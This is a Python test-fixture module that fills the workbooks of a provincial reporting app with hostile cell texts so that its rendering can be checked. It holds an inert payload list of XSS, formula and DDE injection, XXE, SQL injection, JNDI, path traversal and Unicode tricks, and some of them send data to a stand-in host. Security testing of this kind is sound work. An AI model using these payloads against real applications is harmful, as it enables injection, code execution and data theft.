"""Workbooks whose every text tries something: what a sheet can hold, and must not be able to do."""

from collections.abc import Iterator, Mapping
from itertools import cycle
from pathlib import Path
from typing import Any

import xlsxwriter

from campaign.records import RawWorkbook
from sheets_schema.province_workbook import province_workbook
from sheets_schema.unit_workbook import unit_workbook
from sheets_schema.vocabulary import Text, Worksheet
from tests.filled import PLAN, examples, province_grid, unit_grid

MARK = "__hostile"
"""What a script of a payload would set in the window."""
WORD = "bichiem"
"""Stands inside what Markdown would mark: alone in a piece of text, it was marked."""
ELSEWHERE = "hostile.example"
"""Host that nothing may ask, and no link may lead to."""

_RUN = f"window.{MARK}=1"

PAYLOADS: Mapping[str, str] = {
    # HTML and scripts
    "script": f"<script>{_RUN}</script>",
    "script closing another": f"</script><script>{_RUN}</script>",
    "image error": f"<img src=x onerror={_RUN}>",
    "svg load": f"<svg onload={_RUN}>",
    "svg animate": f"<svg><animate onbegin={_RUN} attributeName=x dur=1s>",
    "details toggle": f"<details open ontoggle={_RUN}>",
    "input focus": f"<input autofocus onfocus={_RUN}>",
    "iframe script": f"<iframe src=javascript:{_RUN}>",
    "iframe srcdoc": f"<iframe srcdoc='<script>parent.{MARK}=1</script>'>",
    "object": f"<object data=javascript:{_RUN}>",
    "embed": f"<embed src=//{ELSEWHERE}/a.swf>",
    "form": f"<form action=//{ELSEWHERE}><button>Gửi</button></form>",
    "meta refresh": f"<meta http-equiv=refresh content='0;url=//{ELSEWHERE}'>",
    "base": f"<base href=//{ELSEWHERE}/>",
    "style import": f"<style>@import '//{ELSEWHERE}/a.css'; body{{display:none}}</style>",
    "link stylesheet": f"<link rel=stylesheet href=//{ELSEWHERE}/a.css>",
    "remote image": f"<img src='//{ELSEWHERE}/pixel.png'>",
    "template": f"<template><script>{_RUN}</script></template>",
    "math": f"<math><mtext><img src=x onerror={_RUN}></mtext></math>",
    "attribute break": f'" onmouseover="{_RUN}" x="',
    "attribute break single": f"' autofocus onfocus='{_RUN}' x='",
    "comment break": f"--><img src=x onerror={_RUN}>",
    "title break": f"</title><img src=x onerror={_RUN}>",
    "textarea break": f"</textarea><img src=x onerror={_RUN}>",
    "table break": "</td></tr></table><h1 id=hostile>Chiếm bảng</h1>",
    "named element": "<a id=hostile name=hostile>Chiếm tên</a>",
    "entities": f"&lt;img src=x onerror={_RUN}&gt;",
    "numeric entities": f"&#60;img src=x onerror={_RUN}&#62;",
    "uppercase": f"<ScRiPt>{_RUN}</sCrIpT>",
    "null in tag": f"<scr\x00ipt>{_RUN}</scr\x00ipt>",
    "dialog": "<img src=x onerror=alert(1)>",
    # Addresses
    "javascript address": f"javascript:{_RUN}",
    "data address": f"data:text/html,<script>{_RUN}</script>",
    "vbscript address": "vbscript:msgbox(1)",
    "file address": "file:///etc/passwd",
    "other address": f"https://{ELSEWHERE}/lay-cookie",
    "look-alike address": f"https://docs.google.com.{ELSEWHERE}/spreadsheets/d/1",
    "user in address": f"https://docs.google.com@{ELSEWHERE}/spreadsheets/",
    # Markdown of Streamlit
    "bold": f"**{WORD}**",
    "emphasis": f"_{WORD}_",
    "heading": f"# {WORD}",
    "link": f"[{WORD}](https://{ELSEWHERE})",
    "script link": f"[{WORD}](javascript:{_RUN})",
    "image": f"![{WORD}](https://{ELSEWHERE}/pixel.png)",
    "code": f"`{WORD}`",
    "strike": f"~~{WORD}~~",
    "colour": f":red[{WORD}]",
    "background": f":blue-background[{WORD}]",
    "material icon": ":material/delete: xóa",
    "emoji code": ":skull: nguy hiểm",
    "formula of TeX": f"${WORD}$",
    "table": f"|{WORD}|b|",
    "autolink": f"<https://{ELSEWHERE}>",
    "html in markdown": f"<b>{WORD}</b>",
    # Spreadsheets
    "formula": "=1+1",
    "hyperlink formula": f'=HYPERLINK("https://{ELSEWHERE}","{WORD}")',
    "web service": f'=WEBSERVICE("https://{ELSEWHERE}/?"&A1)',
    "import": f'=IMPORTXML("https://{ELSEWHERE}","//a")',
    "dde": "=cmd|' /C calc'!A0",
    "dde plus": "+cmd|' /C calc'!A0",
    "dde minus": "-2+3+cmd|' /C calc'!A0",
    "dde at": "@SUM(1+1)*cmd|' /C calc'!A0",
    "tab first": "\t=1+1",
    "return first": "\r=1+1",
    "full width": "＝1+1",
    "quote break": '"; =1+1; "',
    "semicolon row": ";=1+1;\n=2+2",
    # Word
    "field code": f'{{ INCLUDETEXT "https://{ELSEWHERE}/a" }}',
    "field of dde": '{ DDEAUTO c:\\\\windows\\\\system32\\\\cmd.exe "/k calc" }',
    "xml": "<w:instrText>DDEAUTO cmd</w:instrText>",
    "entity": "<!DOCTYPE a [<!ENTITY b SYSTEM 'file:///etc/passwd'>]>&b;",
    "cdata": "]]><w:p/>",
    # Templates, queries, charts
    "braces": "{{7*7}}{%raise%}",
    "format": "{0.__class__.__mro__} %s %(a)s %n",
    "dollar": "${7*7} $title ${groups}",
    "jndi": f"${{jndi:ldap://{ELSEWHERE}/a}}",
    "query": "'); DROP TABLE refreshes;--",
    "union query": "' OR 1=1 UNION SELECT * FROM sessions --",
    "vega expression": f"datum['{_RUN}']",
    "vega constructor": "toString.constructor('return 1')()",
    "path": "../../../../etc/passwd",
    # Letters
    "escape codes": "\x1b[2J\x1b[31mĐỎ\x1b]0;chiếm\x07",
    "eight-bit escape": "\x9b2J\x9d0;chiếm\x9c",
    "line break in log": "xong\nINFO giả mạo",
    "carriage return": "thật\rgiả",
    "backspaces": "đúng\x08\x08\x08\x08sai",
    "right to left": "an toàn \u202egpj.exe",
    "isolates": "\u2066\u2067đảo\u2069\u2069 chữ\u061c",
    "zero width": "Ph\u200bù\u200c C\u200dát\ufeff",
    "stacked marks": "Z" + "\u0334\u0335\u0336\u0337\u0338" * 20 + "algo",
    "emoji flood": "💥" * 120,
    "emoji joined": "👨‍👩‍👧‍👦🏳️‍🌈" * 10,
    "tags": "cờ\U000e0067\U000e0062\U000e007f",
    "no characters": "\ufdd0\ufffe\uffff",
    "line separators": "một\u2028hai\u2029ba",
    "one long word": "W" * 280,
    "long text": "Dài " * 12_500,
    "half a letter": "nửa \ud800 chữ",
    "look-alikes": "РЬù Саt",
}


def province() -> Iterator[RawWorkbook]:
    """Yield the workbooks of two units and of the province, a payload in every text and in other cells."""
    for unit, name in (("LĐLĐ huyện Phù Cát", "phu-cat"), ("LĐLĐ huyện An Lão", "an-lao")):
        yield unit_grid(unit, "Đợt 2", key=f"{name}-dot-2.xlsx", **_filled(unit_workbook(PLAN), unit))
    yield province_grid(**_filled(province_workbook(PLAN), "tỉnh"))


def write(book: RawWorkbook, path: Path) -> None:
    """Write a workbook as .xlsx, each text as it is; what no .xlsx can hold is left out."""
    with xlsxwriter.Workbook(path, {"strings_to_formulas": False, "strings_to_urls": False}) as file:
        for sheet in book.sheets:
            tab = file.add_worksheet(sheet.title)
            for row, cells in enumerate(sheet.cells):
                for column, cell in enumerate(cells):
                    if isinstance(cell, str):
                        tab.write_string(row, column, _writable(cell))
                    elif cell is not None:
                        tab.write(row, column, cell)


def _filled(schema: Any, whose: str) -> dict[str, Any]:
    given = examples(schema)
    return {sheet.name: _rows(sheet, list(given[sheet.name]), whose) for sheet in schema.worksheets}


def _rows(sheet: Worksheet, rows: list[Any], whose: str) -> list[Any]:
    texts = [column.name for column in sheet.columns if isinstance(column, Text)]
    others = [
        column.name for column in sheet.columns if column.name not in (*texts, "row_no", "unit", "phase")
    ]
    endless = cycle(PAYLOADS.values())
    if sheet.fixed:
        # Printed rows stay in their places; what is asked beside them is anything.
        asked = [{name for name in row if name != "_key"} for row in rows]
        return [
            {**row, **{name: next(endless) for name in sorted(names) if not isinstance(row[name], int)}}
            if place % 2
            else row
            for place, (row, names) in enumerate(zip(rows, asked, strict=True))
        ]
    example = dict(rows[0])
    filled = [example]
    for number, payload in enumerate(PAYLOADS.values()):
        # Names are keys, and no two rows may have the same.
        keyed = {
            name: f"{payload} {number}" for name in ("title", "name", "recipient", "what") if name in example
        }
        keyed |= {name: f"la_{number}" for name in ("code",) if name in example}
        filled.append({**example, **keyed})
        filled.append({**example, **keyed, texts[number % len(texts)]: payload})
        if others:
            filled.append({**example, others[number % len(others)]: payload})
    return filled if sheet.name != "units" else filled[:1] + list(_units(example))


def _units(example: Mapping[str, Any]) -> Iterator[dict[str, Any]]:
    """Units that the plan does not know, and whose names stand on every page."""
    short = [payload for payload in PAYLOADS.values() if len(payload) <= 60]
    for number, payload in enumerate(short[:8]):
        names = {"name": f"LĐLĐ {payload}", "short": payload, "aliases": payload, "block": payload}
        yield {**example, **names, "code": f"la_{number}"}


def _writable(text: str) -> str:
    return "".join(letter for letter in text if letter not in "\ufffe\uffff\ud800")[:32_000]
